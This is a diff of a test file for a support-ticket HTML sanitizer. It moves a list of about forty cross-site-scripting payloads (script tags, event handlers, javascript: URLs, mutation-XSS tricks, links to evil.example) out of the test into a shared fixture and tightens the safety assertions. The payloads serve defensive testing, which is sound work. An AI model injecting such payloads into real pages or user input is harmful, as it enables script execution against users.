@@ -1,52 +1,10 @@
 import fc from 'fast-check';
 import { describe, expect, it, test } from 'vitest';
-import { htmlToText, sanitizeTicketHtml } from './sanitize';
-import { textToHtml } from './text-to-html';
+import { textToHtml } from '@/lib/domain/rich-text';
+import { hostileHtml, WELCOME_HTML } from '@/tests/support/hostile-html';
+import { htmlToText, sanitizeTicketHtml, showRemoteImages } from './sanitize';
 
-const hostile = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
-  '<img src="data:image/png;base64,AAAA" onload="alert(1)">',
-  '<img src=`javascript:alert(1)`>',
-  '<svg onload=alert(1)><circle/></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java&#10;script:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href=" \u0001javascript:alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
-  '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)><button>x</button></form>',
-  '<div style="background:url(javascript:alert(1))">x</div>',
-  '<style>@import "https://evil.example/x.css"; p{color:expression(alert(1))}</style>',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<body onload=alert(1)>x</body>',
-  '<video><source onerror=alert(1)></video>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<p id="app" class="fixed inset-0" name="csrf">x</p>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<template><script>alert(1)</script></template>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<textarea></textarea><script>alert(1)</script>',
-  '<p title="a" <img src=x onerror=alert(1)//',
-  '<span class="blocked-image" onclick=alert(1)>x</span>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-];
+const hostile = hostileHtml.map(({ html }) => html);
 
 /** Every tag of a result, with its attributes. */
 const tagsOf = (html: string) => html.match(/<[a-z!/][^>]*>/gi) ?? [];
@@ -56,17 +14,36 @@ function expectHarmless(html: string) {
     /<\/?(script|style|svg|math|iframe|object|embed|form|input|button|link|base|meta|template|textarea|body|video)\b/i,
   );
   for (const tag of tagsOf(html)) {
-    expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
-    expect(tag).not.toMatch(/(javascript|vbscript|data:text|svg\+xml)/i);
-    expect(tag).not.toMatch(/\s(style|id|name|srcdoc|action)\s*=/i);
-    expect(tag).not.toMatch(/(src|href)\s*=\s*"(?:\/\/|x")/i);
+    // Text in quotes is text; what stands outside them is what a browser acts on.
+    expect(tag.replace(/"[^"]*"/g, '')).not.toMatch(
+      /\s(on[a-z]+|style|id|name|srcset|srcdoc|action|role|tabindex|ping)\s*=/i,
+    );
+    for (const [, name, value = ''] of tag.matchAll(/\s(src|href|data-src)="([^"]*)"/g)) {
+      expect(value).toMatch(
+        name === 'href'
+          ? /^(https?:|mailto:|tel:)/
+          : name === 'data-src'
+            ? /^https:\/\//
+            : /^(data:image\/(png|jpe?g|gif|webp);base64,|https:\/\/)/,
+      );
+    }
+    if (/\shref=/.test(tag)) expect(tag).toContain('rel="noopener noreferrer nofollow"');
   }
 }
 
 describe('what a ticket brings in cannot act on the agent', () => {
-  test.each(hostile)('%s', (payload) => {
-    expectHarmless(sanitizeTicketHtml(payload));
-    expectHarmless(sanitizeTicketHtml(`<p>Hello</p>${payload}<p>bye</p>`));
+  test.each(hostileHtml)('$name', ({ html }) => {
+    for (const wild of [html, `<p>Hello</p>${html}<p>bye</p>`]) {
+      const safe = sanitizeTicketHtml(wild);
+      expectHarmless(safe);
+      expect(safe).not.toMatch(/<img[^>]*\ssrc="https?:/);
+      expectHarmless(showRemoteImages(safe));
+    }
+  });
+
+  test('there are as many ways as names for them, and each is another', () => {
+    expect(hostileHtml.length).toBeGreaterThanOrEqual(60);
+    expect(new Set(hostile).size).toBe(hostileHtml.length);
   });
 
   test('sanitising twice changes nothing more', () => {
@@ -121,11 +98,40 @@ describe('what a ticket brings in stays readable', () => {
 
   test('a remote picture becomes a notice with its description', () => {
     expect(
-      sanitizeTicketHtml('<p><img src="https://track.example/p.gif" alt="Logo &lt;b&gt;"> Hi</p>'),
+      sanitizeTicketHtml('<p><img src="http://track.example/p.gif" alt="Logo &lt;b&gt;"> Hi</p>'),
     ).toBe('<p><span class="blocked-image">Image blocked: Logo &lt;b&gt;</span> Hi</p>');
     expect(sanitizeTicketHtml('<img src="cid:part1">')).toBe(
       '<span class="blocked-image">Image blocked</span>',
     );
+  });
+
+  test('a remote picture is kept back until it is asked for, and then shows nobody where it is read', () => {
+    const html = sanitizeTicketHtml(
+      '<p><img src="HTTPS://Cdn.example/Logo 1.png?a=1&amp;b=2" alt=\'The "logo"\' width="120" height="9%"></p>',
+    );
+    expect(html).toBe(
+      '<p><span class="blocked-image" data-src="https://cdn.example/Logo%201.png?a=1&amp;b=2" data-width="120">Image blocked: The "logo"</span></p>',
+    );
+    expect(showRemoteImages(html)).toBe(
+      '<p><img src="https://cdn.example/Logo%201.png?a=1&amp;b=2" width="120" alt="The &quot;logo&quot;" referrerpolicy="no-referrer" /></p>',
+    );
+  });
+
+  test('what has no https address stays a notice', () => {
+    for (const src of ['http://a.example/b.png', 'cid:part1', '//a.example/b', 'https://u:p@a/b']) {
+      const html = sanitizeTicketHtml(`<img src="${src}" alt="x">`);
+      expect(html).toBe('<span class="blocked-image">Image blocked: x</span>');
+      expect(showRemoteImages(html)).toBe(html);
+    }
+  });
+
+  test('formatting comes through whatever follows it', () => {
+    const welcome = sanitizeTicketHtml(WELCOME_HTML);
+    for (const { name, html } of hostileHtml) {
+      expect(sanitizeTicketHtml(`${WELCOME_HTML}${html}`), name).toContain(
+        html.length > 20_000 || name === 'five hundred quotations' ? 'bold words' : welcome,
+      );
+    }
   });
 
   test('a note without any tag keeps its lines', () => {
